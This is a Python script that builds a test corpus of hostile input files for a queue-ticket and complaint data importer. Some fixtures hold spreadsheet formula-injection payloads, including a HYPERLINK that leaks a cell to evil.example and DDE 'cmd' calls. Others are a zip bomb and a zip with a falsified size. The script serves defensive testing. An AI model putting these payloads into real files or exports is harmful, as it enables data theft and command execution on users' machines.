"""Writes the hostile corpus in this folder: `python tests/hostile/make_corpus.py`.

The files are committed; this script only says how each was made, byte for byte, and
remakes them. Big cases (5 million rows, a 10 MB cell, a gigabyte zip bomb) are made by
tests/test_hostile.py in a temporary folder instead. README.md lists every file and the
outcome it must have.
"""
from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import xlsxwriter

HERE = Path(__file__).parent
TICKET_HEADER = ("ticket_id,visit_id,branch_code,participant_id,service,priority_group,issued_at,called_at,"
                 "finished_at,counter_id,outcome,rating")
COMPLAINT_HEADER = ("complaint_id,branch_code,participant_id,participant_name,channel,category,received_at,"
                    "first_response_at,resolved_at,status,reopened")
NIK = "3601234567890001"


def ticket(ticket_id: str, **cells: str) -> list[str]:
    """A valid, served queue ticket at SRG as cells; `cells` overrides some."""
    row = {"ticket_id": ticket_id, "visit_id": "V" + ticket_id, "branch_code": "SRG", "participant_id": "",
           "service": "information", "priority_group": "", "issued_at": "2026-11-16 08:00:00",
           "called_at": "2026-11-16 08:10:00", "finished_at": "2026-11-16 08:20:00", "counter_id": "L1",
           "outcome": "resolved", "rating": "5"}
    row.update(cells)
    return list(row.values())


def csv(header: str, rows: list[list[str]], separator: str = ",", line_end: str = "\n") -> str:
    return line_end.join([header.replace(",", separator), *[separator.join(r) for r in rows]]) + line_end


def complaint(complaint_id: str, name: str) -> str:
    return f"{complaint_id},SRG,,{name},walk_in,queue,2026-11-16 10:00:00,,,open,tidak\n"


def text_files() -> dict[str, bytes]:
    files: dict[str, bytes] = {}
    files["queue_tickets_empty.csv"] = b""
    files["queue_tickets_header_only.csv"] = (TICKET_HEADER + "\n").encode()
    # An Indonesian Excel export: semicolons, CRLF, day-first dates; the third row names no branch we know.
    files["queue_tickets_semicolon.csv"] = csv(TICKET_HEADER, [
        ticket("S1", issued_at="16/11/2026 08:00", called_at="16/11/2026 08:10", finished_at="16/11/2026 08:20"),
        ticket("S2", participant_id=NIK, outcome="no_show", called_at="", finished_at="", counter_id="", rating=""),
        ticket("S3", branch_code="JKT"),
    ], separator=";", line_end="\r\n").encode()
    files["queue_tickets_tab.csv"] = csv(TICKET_HEADER, [ticket("B1"), ticket("B2")], separator="\t").encode()
    files["queue_tickets_pipe.csv"] = csv(TICKET_HEADER, [ticket("P1")], separator="|").encode()
    # Names in Latin-1 (Windows-1252): Excel's "CSV (comma delimited)" on Windows.
    files["complaints_latin1.csv"] = (COMPLAINT_HEADER + "\n" + complaint("K1", "Siti Aminah")
                                      + complaint("K2", "José Peña") + complaint("K3", "Ñoño Müller")).encode("latin-1")
    # One file, two encodings: line 3 is UTF-8 (valid), lines 4 and 6 are Latin-1.
    files["complaints_mixed_encoding.csv"] = (
        (COMPLAINT_HEADER + "\n" + complaint("K1", "Siti Aminah") + complaint("K2", "José Peña")).encode("utf-8")
        + complaint("K3", "Ñoño Müller").encode("latin-1") + complaint("K4", "Budi").encode("utf-8")
        + complaint("K5", "Renée").encode("latin-1"))
    files["complaints_utf16.csv"] = (COMPLAINT_HEADER + "\n" + complaint("W1", "José")).encode("utf-16")
    files["queue_tickets_utf16_no_bom.csv"] = csv(TICKET_HEADER, [ticket("W1")]).encode("utf-16-le")
    files["complaints_utf16_no_bom.csv"] = (COMPLAINT_HEADER + "\n" + complaint("W1", "José")).encode("utf-16-le")
    # Valid UTF-8 with accents, in text that is stored (branch names) and text that is dropped (participant_name).
    files["branches_unicode.csv"] = (
        "branch_code,branch_name,branch_type,region_code,region_name,city,counters,opens_at,closes_at\n"
        "CLG,KC Cilegon – Ñusantara Café,KC,BTN,Banten,Cilegon,3,08:00,15:00\n").encode("utf-8")
    files["complaints_utf8_names.csv"] = (COMPLAINT_HEADER + "\n" + complaint("U1", "José Peña")
                                          + complaint("U2", "Ñoño Müller 王")).encode("utf-8")
    files["queue_tickets_formulas.csv"] = csv(TICKET_HEADER, [
        ticket("F1"),
        ticket("F2", counter_id='"=HYPERLINK(""http://evil.example/?leak=""&A1,""klik"")"'),
        ticket("F3", visit_id="+cmd|' /C calc'!A0"),
        ticket("F4", counter_id="@SUM(1+1)*cmd|' /C calc'!A0"),
        ticket("F5", counter_id="-2+3+cmd|' /C calc'!A0"),
        ticket("\t=1+1", visit_id="VF6"),
        ticket("F7", counter_id="-"),  # a lone dash is a placeholder, not a formula: loaded
    ]).encode()
    files["queue_tickets_dates_out_of_range.csv"] = csv(TICKET_HEADER, [
        ticket("D1"),
        ticket("D2", issued_at="1900-01-01 08:00:00", called_at="1900-01-01 08:10:00",
               finished_at="1900-01-01 08:20:00"),
        ticket("D3", issued_at="2999-11-16 08:00:00", called_at="2999-11-16 08:10:00",
               finished_at="2999-11-16 08:20:00"),
        ticket("D4", finished_at="2999-11-16 08:20:00"),
        ticket("D5", issued_at="00/01/1900 00:00"),  # Excel's day zero
    ]).encode()
    files["queue_tickets_negative_durations.csv"] = csv(TICKET_HEADER, [
        ticket("N1"),
        ticket("N2", called_at="2026-11-16 08:10:00", finished_at="2026-11-16 08:05:00"),  # finished before called
        ticket("N3", issued_at="2026-11-16 09:00:00"),  # called an hour before its ticket was printed
        ticket("N4", called_at="2026-11-16 07:59:30"),  # 30 s early: clock skew, clamped and loaded
    ]).encode()
    # Exact copies (counted, loaded once) and conflicting versions of one id (the last wins, earlier quarantined).
    files["queue_tickets_duplicates.csv"] = csv(TICKET_HEADER, [
        ticket("R1"), ticket("R1"), ticket("R1"),
        ticket("R2", rating="1"), ticket("R2", rating="4"),
        ticket("R3", rating="2"), ticket("R3", rating="9"),  # the later version is invalid: the earlier one stays
    ]).encode()
    files["queue_tickets_resend_1.csv"] = csv(TICKET_HEADER, [ticket("X1", rating="1"), ticket("X2")]).encode()
    files["queue_tickets_resend_2.csv"] = csv(TICKET_HEADER, [ticket("X1", rating="5", counter_id="L9")]).encode()
    files["claims_error_page.csv"] = (
        "<!DOCTYPE html>\n<html lang=\"id\"><head><title>502 Bad Gateway</title></head>\n"
        "<body><h1>502 Bad Gateway</h1><p>Maaf, layanan sedang sibuk, silakan coba lagi.</p>"
        "<table><tr><td>claim_id</td><td>status</td></tr><tr><td>C1</td><td>paid</td></tr></table></body></html>\n"
    ).encode()
    files["queue_tickets_control_characters.csv"] = (csv(TICKET_HEADER, [
        ticket("C1"),
        ticket("C2\x00"),
        ticket('"C3\nsecond line"', visit_id="VC3"),
        ticket("C4", counter_id="L\x071"),
    ])).encode()
    # A line with more values than the header: the whole file is refused, with the reason.
    files["queue_tickets_ragged.csv"] = csv(TICKET_HEADER, [ticket("G1"), ticket("G2") + ["extra"]]).encode()
    # An export cut off in the middle of its last line.
    files["queue_tickets_cut_off.csv"] = csv(TICKET_HEADER, [ticket("Z1"), ticket("Z2")]).encode()[:-40]
    return files


def _workbook(sheet_rows: list[list[str]]) -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    for r, row in enumerate(sheet_rows):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value)
    book.close()
    return buffer.getvalue()


def formula_workbook() -> bytes:
    """Formula text in string cells (quarantined) and one real formula cell, which a reader sees as its last value."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet()
    rows = [TICKET_HEADER.split(","), ticket("XF1"), ticket("XF2", counter_id='=HYPERLINK("http://evil.example","L1")'),
            ticket("XF3", visit_id="@SUM(A1:A9)"), ticket("XF4")]
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            sheet.write_string(r, c, value)
    # XF4's counter is a live formula whose saved result is "L2": Pantau stores "L2" and never runs the formula.
    sheet.write_formula(4, 9, '=CONCATENATE("L","2")', None, "L2")
    book.close()
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """A valid tiny workbook whose sheet is padded with 64 MB of blanks: ~64 KB packed, ~1,000 to 1."""
    with zipfile.ZipFile(io.BytesIO(_workbook([TICKET_HEADER.split(","), ticket("ZB1")]))) as small:
        members = {m.filename: small.read(m) for m in small.infolist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * (64 << 20), 1)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for name, data in members.items():
            bomb.writestr(name, data)
    return buffer.getvalue()


def lying_zip() -> bytes:
    """A small valid workbook whose zip directory says the sheet unpacks to 4,000,000,000 bytes."""
    data = bytearray(_workbook([TICKET_HEADER.split(","), ticket("ZL1")]))
    name = b"xl/worksheets/sheet1.xml"
    # (signature, offset of the uncompressed size, offset of the name length, offset of the name)
    for signature, size_at, name_length_at, name_at in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        at = 0
        while (at := data.find(signature, at)) >= 0:
            length = struct.unpack("<H", data[at + name_length_at: at + name_length_at + 2])[0]
            if data[at + name_at: at + name_at + length] == name:
                data[at + size_at: at + size_at + 4] = struct.pack("<I", 4_000_000_000)
            at += 4
    return bytes(data)


def binary_files() -> dict[str, bytes]:
    good = _workbook([TICKET_HEADER.split(","), ticket("XT1"), ticket("XT2")])
    return {
        "queue_tickets_truncated.xlsx": good[: len(good) // 2],
        "queue_tickets_zip_bomb.xlsx": zip_bomb(),
        "queue_tickets_lying_zip.xlsx": lying_zip(),
        "queue_tickets_formulas.xlsx": formula_workbook(),
    }


def main() -> None:
    for name, data in {**text_files(), **binary_files()}.items():
        (HERE / name).write_bytes(data)
        print(f"{len(data):>9,} bytes  {name}")


if __name__ == "__main__":
    main()
